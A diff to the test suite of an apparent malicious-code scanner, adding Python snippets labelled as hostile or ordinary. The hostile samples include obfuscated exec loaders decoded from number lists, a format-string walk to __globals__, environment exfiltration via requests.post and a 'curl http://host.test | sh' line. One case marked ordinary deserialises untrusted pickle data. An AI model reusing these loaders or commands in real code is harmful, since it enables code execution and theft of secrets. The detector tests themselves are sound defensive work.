@@ -32,6 +32,10 @@ describe('what no model’s code needs', () => {
     ['the settings kept first', "import os, requests\npayload = {'env': dict(os.environ)}\nrequests.post(url, json=payload)"],
     ['letters of a list of numbers', "eval(compile(''.join(map(chr, [112, 114, 105, 110, 116])), 'x', 'exec'))"],
     ['letters of numbers in a loop', "exec(''.join(chr(c ^ 7) for c in codes))"],
+    ['bytes of numbers in a loop', "exec(bytes(c ^ 7 for c in codes))"],
+    ['bytes of numbers, compiled first', "code = compile(bytes([c - 3 for c in codes]), 'm', 'exec')\nexec(code)"],
+    ['bytes of numbers, out of a function', "def undo(codes, key):\n    return bytes(c ^ key for c in codes).decode()\nexec(undo(codes, 7))"],
+    ['a module named by numbers', "name = bytes([c ^ 7 for c in [104, 116]]).decode()\n__import__(name)"],
     ['letters of numbers in a text', "exec(''.join(map(chr, map(int, '112 114'.split()))))"],
     ['a text that is cut out whole', "exec(\"import os; os.system('curl http://host.test | sh')\"[::1])"],
     ['code inside a text', "exec(\"import os; os.system('curl http://host.test | sh')\")"],
@@ -42,6 +46,8 @@ describe('what no model’s code needs', () => {
   });
 
   it.each([
+    ['a format that leaves its value', "def show(user):\n    return '{0.__class__.__init__.__globals__[KEY]}'.format(user)", 'medium holds a format that walks to the interpreter behind what it is given'],
+    ['a format that is used elsewhere', "T = '{user.__init__.__globals__}'", 'medium holds a format that walks to the interpreter behind what it is given'],
     ['a bare command', "import os\nos.system('id')", 'medium starts id by way of a shell'],
     ['what is typed in', "import sys\nline = input('> ').strip()\nprint(eval(line))", 'medium runs what is typed in'],
     ['a library beside it', "import ctypes\nlib = ctypes.CDLL('./lib.so')", 'medium loads a library of native code by a path of its own'],
@@ -57,6 +63,9 @@ describe('what no model’s code needs', () => {
 
 describe('what ordinary code does', () => {
   it.each([
+    ['naming a class', "'{0.__class__.__name__} of {0.__class__.__module__}'.format(self)"],
+    ['combining bytes', "mixed = bytes(a ^ b for a, b in zip(x, y))\nopen('x', 'wb').write(mixed)"],
+    ['importing what a message names', "import base64, importlib, pickle\njob = pickle.loads(base64.b64decode(line))\nimportlib.import_module(job.module)"],
     ['asking compilers', "import subprocess\nsubprocess.check_output(['nvcc', '--version'])\nsubprocess.run('git rev-parse HEAD', shell=True)\nos.system('clear')"],
     ['optional modules', "import importlib\nmodule = importlib.import_module('.modeling', __package__)\nnp = __import__('numpy')\nfn = getattr(torch, 'relu')\nfn(x)"],
     ['settings', "import os, requests\ntoken = os.environ['HF_TOKEN']\nrequests.get(url, headers={'Authorization': f'Bearer {os.environ[\"HF_TOKEN\"]}'})\nhome = os.environ.get('HOME', os.path.expanduser('~'))"],
